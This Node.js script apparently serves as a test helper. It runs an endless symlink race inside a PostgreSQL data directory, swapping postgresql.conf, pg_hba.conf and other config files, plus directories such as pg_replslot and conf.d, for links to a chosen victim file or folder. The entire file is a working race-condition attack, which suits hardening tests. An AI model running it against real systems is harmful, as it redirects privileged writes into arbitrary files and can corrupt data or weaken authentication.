// Usage: swapper.mjs FOLDER VICTIM_FILE VICTIM_FOLDER. Puts links in the place of files and folders of FOLDER, without end.
import { mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync } from 'node:fs';
import { join } from 'node:path';

const [folder, victim, victims] = process.argv.slice(2);
const attempt = (work) => {
  try {
    work();
  } catch {
    // Whoever works in the folder was quicker.
  }
};
process.stdout.write('ready\n');
for (let round = 0; ; round++) {
  for (const name of ['postgresql.conf', 'postgresql.auto.conf', 'pg_hba.conf', 'pg_ident.conf']) {
    attempt(() => {
      symlinkSync(victim, join(folder, 'spare'));
      renameSync(join(folder, 'spare'), join(folder, name));
    });
  }
  for (const name of ['pg_replslot', 'pg_notify', 'conf.d']) {
    const path = join(folder, name);
    attempt(() => {
      if (round % 2 === 0) {
        rmSync(path, { recursive: true, force: true });
        symlinkSync(victims, path);
      } else {
        unlinkSync(path);
        mkdirSync(join(path, 'slot'), { recursive: true });
      }
    });
  }
}
